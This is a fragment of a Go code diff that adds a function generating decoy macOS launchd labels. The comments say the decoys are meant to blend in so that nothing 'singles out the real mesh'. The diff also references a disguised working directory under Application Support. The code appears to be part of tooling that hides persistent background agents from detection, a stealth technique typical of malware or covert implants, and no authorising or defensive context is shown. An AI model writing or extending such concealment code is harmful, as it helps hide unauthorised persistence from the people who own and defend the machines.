@@ -216,9 +216,13 @@ func randHex(n int) string {
 }
 
 func pick(s []string) string {
+	return s[int(pickByte())%len(s)]
+}
+
+func pickByte() byte {
 	b := make([]byte, 1)
 	_, _ = rand.Read(b)
-	return s[int(b[0])%len(s)]
+	return b[0]
 }
 
 // family returns the org/vendor segment of a launchd-label prefix: the
@@ -271,6 +275,21 @@ func GenerateRoster() []string {
 	}
 }
 
+// GenerateDecoys produces n decoy launchd labels (FEATURE 10 decoy entries). Each is
+// drawn from one of the three roster styles, starting at a random one and
+// cycling, so the decoys read like more of the same independent background
+// agents and no style count singles out the real mesh. All randomness uses
+// crypto/rand (pick).
+func GenerateDecoys(n int) []string {
+	styles := []func() string{styleReverseDNS, styleCamelCase, styleDaemon}
+	start := int(pickByte())
+	labels := make([]string, n)
+	for i := range labels {
+		labels[i] = styles[(start+i)%len(styles)]()
+	}
+	return labels
+}
+
 // HiddenWorkdir returns a disguised directory PATH under the given Application
 // Support root. FEATURE 26: the name is now a shape-ensemble blend that reads as
 // an ordinary app-support entry (no leading dot, no shared hex tail — see